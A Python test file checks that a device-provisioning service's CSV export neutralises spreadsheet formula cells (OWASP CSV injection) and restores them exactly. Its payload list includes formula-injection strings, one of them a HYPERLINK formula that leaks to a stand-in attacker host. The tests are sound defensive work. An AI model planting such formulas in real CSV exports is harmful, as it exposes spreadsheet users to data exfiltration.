"""CSV cells a spreadsheet will not run (OWASP's CSV injection rule), and proof that what
provisiond generates never needs the rule: its secrets reach devices exactly."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from provisiond.domain.claims import new_claim_code
from provisiond.domain.credentials import CredentialType
from provisiond.protocols.codes.lorawan import LoRaWanCode
from provisiond.protocols.csv_cells import (
    FORMULA_STARTS,
    csv_line,
    csv_lines,
    is_risky,
    neutralise,
    restore,
    restore_row,
)
from provisiond.services.hashing import new_split_token, new_split_tokens
from provisiond.services.ids import canonical, new_id_hexes

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak","open")',
    "@SUM(1+1)",
    "+cmd",
    "-2+3",
    "\t=1",
    "\r=1",
    "=1+1",
    "-",
    "+",
    "@",
    "'=1",
    "''-1",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def csv_module(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_quote_in_front_and_is_quoted(payload: str) -> None:
    line = csv_line(["SERIAL-1", payload, "plain"])
    cell = line.split(",", 1)[1]
    assert cell.startswith("\"'")  # the cell is quoted, its text starts with '
    (parsed,) = read(line)
    assert parsed == ["SERIAL-1", "'" + payload, "plain"]
    assert parsed[1][0] not in FORMULA_STARTS
    assert restore(parsed[1]) == payload


@pytest.mark.parametrize(
    "value",
    ["", "plain", "a,b", 'say "hi"', "two\nlines", " =1", "'quoted", "x=1", "1-2", "O'Brien"],
)
def test_other_cells_are_written_as_the_csv_module_writes_them(value: str) -> None:
    assert not is_risky(value)
    assert neutralise(value) == restore(value) == value
    assert csv_line(["A", value]) == csv_module([["A", value]])


cells = st.text(alphabet=st.sampled_from("=+-@\t\r\n'\",aZ9 é"), max_size=6)


@given(st.lists(st.lists(cells, max_size=5), max_size=8))
@example([[""]])
@example([[]])
def test_every_row_reads_back_neutralised_and_restores_exactly(rows: list[list[str]]) -> None:
    text = csv_lines(rows)
    parsed = read(text)
    assert parsed == [[neutralise(c) for c in row] for row in rows]
    for row in parsed:
        assert not any(c[:1] in FORMULA_STARTS for c in row)  # nothing a spreadsheet runs
    assert [restore_row(row) for row in parsed] == rows
    safe = [r for r in rows if not any(is_risky(c) for c in r)]
    assert csv_lines(safe) == csv_module(safe)


@given(st.text())
def test_restore_undoes_neutralise(value: str) -> None:
    assert restore(neutralise(value)) == value
    assert neutralise(value)[:1] not in FORMULA_STARTS


# ------------------------------------------------------------------ what provisiond makes


@given(st.binary(min_size=16, max_size=16).filter(lambda b: b[0] < 0xF8))
def test_access_tokens_of_time_ordered_ids_never_start_with_a_formula(raw: bytes) -> None:
    # a UUIDv7 starts with 48 bits of Unix milliseconds: a first byte below 0xF8 until the
    # year 10,600 (0xF8 << 40 ms), below 0x04 (a token starting with 'A') until 2109
    token, _ = new_split_token(uuid.UUID(bytes=raw))
    assert token[0].isalnum()
    assert not is_risky(token)


def test_the_ids_and_secrets_of_an_import_need_no_quote() -> None:
    ids = new_id_hexes(2_000)
    assert all(int(h[:2], 16) < 0x04 for h in ids)  # milliseconds since 1970, before 2109
    tokens = [t for t, _ in new_split_tokens(ids)]
    codes = [new_claim_code() for _ in range(2_000)]
    values = [
        *tokens,
        *codes,
        *(canonical(h) for h in ids),
        *(t.value for t in CredentialType),
        LoRaWanCode("70B3D57ED0000000", "0004A30B001C0530", "00000000").render(),
    ]
    assert not [v for v in values if is_risky(v) or v[:1] == "'"]
